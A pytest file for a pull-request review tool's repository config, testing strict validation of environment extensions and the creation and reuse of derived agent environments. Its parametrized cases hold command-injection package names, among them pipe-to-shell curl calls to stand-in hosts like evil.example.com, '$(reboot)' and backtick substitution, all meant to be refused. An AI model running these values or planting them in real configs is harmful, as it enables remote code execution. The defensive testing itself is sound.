"""A repository may extend its environment in `.github/prmedic.yml`
(`environment: {base, packages, allowed_hosts}`): the extension is validated strictly (package
names, hostnames, counts; networking is never taken from a repository), and each distinct
extension becomes one Managed Agents environment derived from its base, created once and re-used
by its content, a new one when the extension changes; an invalid one is reported and the base used."""

from __future__ import annotations

import pytest
from review_helpers import REPO, PullRequestRepo, review_script, review_sessions

from app.agents.derived import (
    DERIVED_PREFIX,
    derive_environment,
    ensure_derived,
    forget_derived,
)
from app.agents.per_job import choose_environment
from app.agents.sync import default_definitions, ensure_synced
from app.repo_config import EnvironmentExtension, parse_repo_config

EXTENDED = """\
environment:
  base: python
  packages:
    pip: ["psycopg[binary]", "django==5.0.4"]
    apt: [libpq-dev]
    npm: ["@types/node", "typescript@5.4"]
  allowed_hosts: [pypi.internal.example.com]
"""


@pytest.fixture(autouse=True)
def _fresh_derived_cache():
    """Each test starts like a new process: only the store remembers derived environments."""
    forget_derived()
    yield
    forget_derived()


# -- validation (pure) -----------------------------------------------------------------------


def test_a_valid_extension_is_kept_with_its_packages_and_hosts():
    loaded = parse_repo_config(EXTENDED + "review:\n  max_comments: 3\n")

    assert loaded.errors == []
    env = loaded.config.environment
    assert isinstance(env, EnvironmentExtension) and env.base == "python"
    assert env.packages.pip == ["psycopg[binary]", "django==5.0.4"]
    assert env.packages.npm == ["@types/node", "typescript@5.4"]
    assert env.allowed_hosts == ["pypi.internal.example.com"]
    assert loaded.config.review.max_comments == 3


def test_a_plain_name_and_an_extension_that_adds_nothing_are_just_names():
    assert parse_repo_config("environment: node\n").config.environment == "node"
    assert parse_repo_config("environment: {base: go}\n").config.environment == "go"


@pytest.mark.parametrize("name", [
    "requests; curl evil.sh | sh", "$(reboot)", "pkg`id`", "https://evil.example.com/x.whl",
    "git+https://github.com/a/b", "pkg>=1.0", "-e .", "--index-url=http://x", "a b", "",
])
def test_package_names_a_shell_or_url_could_make_more_of_are_refused_and_the_base_used(name):
    loaded = parse_repo_config(f"environment:\n  base: python\n  packages:\n    pip: [{name!r}]\n"
                               "review:\n  max_comments: 3\n")

    assert loaded.config.environment == "python"
    assert len(loaded.errors) == 2 and "`environment.packages.pip`" in loaded.errors[0]
    assert "the job runs in the `python` environment" in loaded.errors[1]
    assert loaded.config.review.max_comments == 3  # the rest of the file still applies


@pytest.mark.parametrize("networking", ["unrestricted", "{type: unrestricted}",
                                        "{type: limited, allowed_hosts: [x.example.com]}"])
def test_networking_is_never_accepted_from_a_repository(networking):
    loaded = parse_repo_config(f"environment:\n  base: python\n  networking: {networking}\n")

    assert loaded.config.environment == "python"
    assert len(loaded.errors) == 2 and "`environment.networking`" in loaded.errors[0]
    assert "never taken from a repository" in loaded.errors[0]


@pytest.mark.parametrize(("text", "where"), [
    ("environment: {base: python, image: ubuntu}\n", "`environment.image`: is not a known setting"),
    ("environment: {base: python, packages: {cargo: [serde]}}\n", "`environment.packages.cargo`: is not a known"),
    ("environment: {base: python, allowed_hosts: ['https://x.example.com']}\n", "is not a hostname"),
    ("environment: {base: python, allowed_hosts: ['x.example.com:8443']}\n", "is not a hostname"),
    ("environment: {base: python, allowed_hosts: ['*.example.com']}\n", "is not a hostname"),
    ("environment: {base: '../python'}\n", "`environment.base`"),
    ("environment: [python]\n", "must be an environment name or a mapping"),
])
def test_unknown_keys_and_bad_values_are_config_problems(text, where):
    loaded = parse_repo_config(text)

    assert any(where in e for e in loaded.errors), loaded.errors
    assert not isinstance(loaded.config.environment, EnvironmentExtension)


def test_too_many_packages_or_hosts_are_refused():
    pips = ", ".join(f"pkg{i}" for i in range(26))
    hosts = ", ".join(f"h{i}.example.com" for i in range(21))

    too_many = parse_repo_config(f"environment: {{base: python, packages: {{pip: [{pips}]}}}}\n")
    too_many_hosts = parse_repo_config(f"environment: {{base: python, allowed_hosts: [{hosts}]}}\n")

    assert too_many.config.environment == "python" and "at most 25" in too_many.errors[0]
    assert too_many_hosts.config.environment == "python" and "at most 20" in too_many_hosts.errors[0]


def test_an_extension_without_a_base_extends_the_environment_for_the_repository_language():
    extension = parse_repo_config("environment: {packages: {npm: [eslint]}}\n").config.environment

    assert isinstance(extension, EnvironmentExtension) and extension.base is None
    assert choose_environment(extension, "TypeScript", ["default", "node", "python"]) == "node"
    assert choose_environment(extension, None, ["default", "node", "python"]) == "default"
    with_base = extension.model_copy(update={"base": "python"})
    assert choose_environment(with_base, "TypeScript", ["default", "node", "python"]) == "python"


def test_the_derived_definition_merges_packages_and_adds_hosts_to_limited_networking():
    base = default_definitions().environments["python"]
    extension = parse_repo_config(EXTENDED).config.environment

    derived = derive_environment(base, extension)

    config = derived.config_param()
    assert derived.name.startswith(f"{DERIVED_PREFIX}python-") and len(derived.name) == len("prmedic-python-") + 8
    assert config["packages"]["pip"] == [*base.packages.pip, "psycopg[binary]", "django==5.0.4"]
    assert "libpq-dev" in config["packages"]["apt"] and config["packages"]["npm"] == ["@types/node", "typescript@5.4"]
    assert config["networking"] == {"type": "limited", "allowed_hosts": ["pypi.internal.example.com"],
                                    "allow_package_managers": True, "allow_mcp_servers": False}
    assert derive_environment(base, extension).name == derived.name  # named by content
    other = extension.model_copy(update={"allowed_hosts": ["other.example.com"]})
    assert derive_environment(base, other).name != derived.name


# -- against the Managed Agents simulator ----------------------------------------------------


def derived_environments(sim) -> list[dict]:
    return [e for e in sim.environments.values() if e["name"].startswith(DERIVED_PREFIX)]


def environment_creates(sim, since: int = 0) -> int:
    return sum(1 for c in sim.write_calls(since) if c.method == "POST" and c.path == "/v1/environments")


async def test_a_derived_environment_is_created_once_then_known_to_the_store_and_adopted_by_a_new_one(
        managed_agents, store, tmp_path):
    from app.store import open_store

    sim = managed_agents.sim
    derived = derive_environment(default_definitions().environments["python"],
                                 parse_repo_config(EXTENDED).config.environment)

    first = await ensure_derived(managed_agents.client, store, derived)
    forget_derived()  # a new process: the store knows it, no call at all
    mark = sim.mark()
    again = await ensure_derived(managed_agents.new_client(), store, derived)
    assert again == first and sim.calls[mark:] == []

    fresh = open_store(f"sqlite:///{tmp_path / 'other.db'}")  # a fresh database: found on Anthropic by its metadata
    await fresh.open()
    try:
        assert await ensure_derived(managed_agents.client, fresh, derived) == first
    finally:
        await fresh.close()
    assert [e["id"] for e in derived_environments(sim)] == [first]
    assert derived_environments(sim)[0]["metadata"]["prmedic_name"] == derived.name


def review_checks(state, sha):
    return [c for c in state.check_runs_for(REPO, sha) if c.name == "prmedic review"]


async def test_a_repository_with_an_extended_environment_gets_one_derived_environment_reused_then_renewed(
        app_stack, git_repo):
    state, sim = app_stack.state, app_stack.sim
    pr = PullRequestRepo(state, git_repo)
    pr.set_config(EXTENDED)
    sim.default_script = review_script([])
    event = pr.event("opened")
    event["repository"]["language"] = "Go"  # the extension's base wins over the language

    await app_stack.deliver("pull_request", event)
    await app_stack.run_jobs()

    (env,) = derived_environments(sim)
    assert env["name"].startswith("prmedic-python-")
    assert "psycopg[binary]" in env["config"]["packages"]["pip"]
    assert env["config"]["networking"]["allowed_hosts"] == ["pypi.internal.example.com"]
    assert [s.environment_id for s in sim.sessions.values()] == [env["id"]]

    # the next job re-uses it: no environment is created
    pr.push({"src/util.py": "def helper(x):\n    return x * 2\n"})
    pr.set_config(EXTENDED)  # a push re-imports the local repository, which has no config
    forget_derived()  # even in a new process
    mark = sim.mark()
    await app_stack.deliver("pull_request", pr.event("synchronize"))
    await app_stack.run_jobs()
    assert len(review_sessions(sim)) == 2 and sim.session().environment_id == env["id"]
    assert environment_creates(sim, mark) == 0

    # a changed extension: a new derived environment, the old one left for whoever still uses it
    pr.push({"src/util.py": "def helper(x):\n    return x * 3\n"})
    pr.set_config(EXTENDED.replace("[libpq-dev]", "[libpq-dev, graphviz]"))
    mark = sim.mark()
    await app_stack.deliver("pull_request", pr.event("synchronize"))
    await app_stack.run_jobs()
    assert environment_creates(sim, mark) == 1
    new = next(e for e in derived_environments(sim) if e["id"] != env["id"])
    assert "graphviz" in new["config"]["packages"]["apt"] and new["name"] != env["name"]
    assert len(review_sessions(sim)) == 3 and sim.session().environment_id == new["id"]


async def test_an_invalid_extension_runs_in_the_base_environment_and_is_reported_on_the_check_run(
        app_stack, git_repo):
    state, sim = app_stack.state, app_stack.sim
    pr = PullRequestRepo(state, git_repo)
    pr.set_config("environment:\n  base: node\n  networking: unrestricted\n"
                  "  packages:\n    npm: ['left-pad; curl evil.example.com | sh']\n")
    sim.default_script = review_script([])

    await app_stack.deliver("pull_request", pr.event("opened"))
    await app_stack.run_jobs()

    assert derived_environments(sim) == []
    (session,) = sim.sessions.values()
    assert sim.environments[session.environment_id]["name"] == "node"
    synced = await ensure_synced(app_stack.services.anthropic, app_stack.store)
    assert session.environment_id == synced.environments["node"]
    (check,) = review_checks(state, pr.head)
    summary = check.output["summary"]
    assert "`environment.networking`" in summary and "`environment.packages.npm`" in summary


async def test_a_derived_environment_archived_by_hand_is_replaced_on_the_next_job(app_stack, git_repo):
    state, sim = app_stack.state, app_stack.sim
    pr = PullRequestRepo(state, git_repo)
    pr.set_config(EXTENDED)
    sim.default_script = review_script([])
    await app_stack.deliver("pull_request", pr.event("opened"))
    await app_stack.run_jobs()
    (old,) = derived_environments(sim)
    await app_stack.services.anthropic.beta.environments.archive(old["id"])
    sim.expect_violations = True  # the first session create is refused, as the API would

    pr.push({"src/util.py": "def helper(x):\n    return x * 2\n"})
    pr.set_config(EXTENDED)
    await app_stack.deliver("pull_request", pr.event("synchronize"))
    await app_stack.run_jobs()

    live = [e for e in derived_environments(sim) if not e.get("archived_at")]
    assert len(live) == 1 and live[0]["id"] != old["id"] and live[0]["name"] == old["name"]
    assert sim.session().environment_id == live[0]["id"]
    assert [v for v in sim.violations if "environment is archived" not in str(v)] == []
